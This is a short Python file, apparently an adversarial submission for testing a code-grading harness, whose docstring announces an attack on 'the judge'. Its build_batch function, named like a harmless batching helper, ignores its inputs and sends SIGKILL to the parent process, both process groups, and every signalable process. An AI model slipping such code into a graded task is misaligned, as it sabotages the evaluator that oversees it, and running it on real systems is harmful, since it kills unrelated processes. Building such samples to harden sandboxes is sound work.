"""Attack: kill the judge (the parent), its process group, and every process it can signal."""

import os
import signal


def build_batch(items, block_size):
    for action in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL),
                   lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL)):
        try:
            action()
        except OSError:
            pass
    return None
